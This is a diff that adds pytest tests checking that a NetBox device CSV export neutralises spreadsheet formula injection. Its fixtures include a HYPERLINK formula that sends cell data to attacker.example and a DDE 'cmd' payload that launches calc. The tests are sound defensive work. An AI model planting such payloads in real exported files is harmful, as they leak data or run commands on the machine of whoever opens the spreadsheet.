@@ -222,3 +222,46 @@ def test_a_bad_variable_on_a_scanned_device_s_host_is_a_config_error_naming_it()
     with pytest.raises(ConfigError, match="host sw1: opsctl_rack_position needs opsctl_rack"):
         scanned_devices_csv([Device("sw1", "switch", manufacturer="Cisco", model="X")],
                             {"sw1": Host("sw1", {"opsctl_rack_position": 4})}, site="s")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(start: str) -> None:
+    from inventory import inventory_from_data
+
+    formula = f'{start}HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    inventory = inventory_from_data(
+        {
+            "all": {
+                "hosts": {
+                    "evil1": {
+                        "opsctl_role": "server",
+                        "opsctl_manufacturer": formula,
+                        "opsctl_model": "R650",
+                        "opsctl_site": "main",
+                        "opsctl_serial": formula,
+                        "opsctl_rack": "A-01",
+                        "opsctl_rack_position": 3,
+                    }
+                }
+            }
+        }
+    )
+    text = str(export_inventory(inventory, "netbox-devices-csv"))
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["manufacturer"] == "'" + formula
+    assert row["serial"] == "'" + formula
+    assert row["device_type"] == "R650"
+    assert row["position"] == "3"
+
+
+def test_numbers_keep_their_sign_and_text_in_a_numeric_column_is_neutralised() -> None:
+    from inventory.netbox import neutralise_cell
+
+    assert neutralise_cell("latitude", "-33.86") == "-33.86"
+    assert neutralise_cell("longitude", "+151.2") == "+151.2"
+    assert neutralise_cell("latitude", "-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
+    assert neutralise_cell("serial", "-12345") == "'-12345"
+    # the inventory's text variables are stripped; a tab or CR can still come from a scan
+    assert neutralise_cell("serial", "\t=1+2") == "'\t=1+2"
+    assert neutralise_cell("platform", "\r=1+2") == "'\r=1+2"
+    assert neutralise_cell("name", "core-sw1") == "core-sw1"
